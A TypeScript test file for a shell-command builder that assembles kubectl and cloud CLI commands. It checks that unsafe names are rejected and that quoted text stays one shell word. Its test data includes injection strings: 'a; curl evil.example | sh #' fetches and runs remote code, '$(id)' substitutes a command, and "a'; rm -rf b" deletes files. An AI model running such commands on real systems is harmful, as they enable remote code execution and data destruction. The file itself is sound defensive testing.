import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { test } from 'node:test'
import fc from 'fast-check'
import { changeCalls, inOrder, quoted, shell, shellWords } from '../../src/lib/shell-command.ts'

const HOSTILE = [
  'a; curl evil.example | sh #',
  '$(id)',
  '`id`',
  'a b',
  "a'b",
  '--as=root',
  '-n',
  'a\nb',
  '',
  'a>b',
  '~',
  'é',
]

test('a name that Kubernetes does not allow leads to no command', () => {
  for (const name of HOSTILE) assert.equal(shell`kubectl -n ${name} get pods`, undefined, JSON.stringify(name))
  assert.equal(shell`kubectl -n ${undefined} get pods`, undefined)
})

test('names that Kubernetes allows are in the command as they are', () => {
  assert.equal(
    shell`kubectl -n ${'shop'} get pod ${'web-5d9c7.x2x4k'} --revision=${3}`,
    'kubectl -n shop get pod web-5d9c7.x2x4k --revision=3',
  )
  assert.equal(shell`kubectl get clusterrole ${'system:node'}`, 'kubectl get clusterrole system:node')
})

test('a text of the cloud or of a flag is one quoted word; one that is an option or unprintable leads to no command', () => {
  assert.equal(shell`x ${quoted('acs:ram::1:role/r')}`, 'x acs:ram::1:role/r')
  assert.equal(shell`x ${quoted("a'; rm -rf b")}`, `x 'a'\\''; rm -rf b'`)
  assert.equal(shell`x ${quoted('')}`, `x ''`)
  for (const text of ['--policy-type', '-x', 'a\nb', 'a\u001b[1m', 'a\u202eb', undefined]) {
    assert.equal(shell`x ${quoted(text)}`, undefined, JSON.stringify(text))
  }
})

test('a command with a part that cannot be written is left out as a whole', () => {
  const bad = shellWords` --issuer ${quoted('--x')}`
  assert.equal(shell`acr-nopass policy${bad}`, undefined)
  assert.equal(inOrder([shell`a`, shell`b ${'b c'}`]), undefined)
  assert.equal(inOrder([]), undefined)
  assert.equal(inOrder([shell`a`, shell`b`]), 'a && b')
})

test('a shell reads any quoted text as exactly one word with that text', () => {
  const texts = fc
    .sample(fc.string({ unit: 'binary', maxLength: 30 }), 500)
    .filter((text) => quoted(text) !== undefined)
  const lines = texts.map((text) => shell`printf '%s\\0' ${quoted(text)}`)
  const output = execFileSync('sh', ['-c', lines.join('\n')], { encoding: 'utf8' })
  assert.deepEqual(output.split('\0').slice(0, -1), texts)
})

test('the calls of a command are told apart outside of quotes only', () => {
  const command = shell`a ${quoted("x && y' | z")} | b && c`
  assert.ok(command)
  const calls: string[][] = []
  const same = changeCalls(command, (words) => {
    calls.push([...words])
    return words
  })
  assert.deepEqual(calls, [['a', `'x && y'\\'' | z'`], ['b'], ['c']])
  assert.equal(same, command)
})
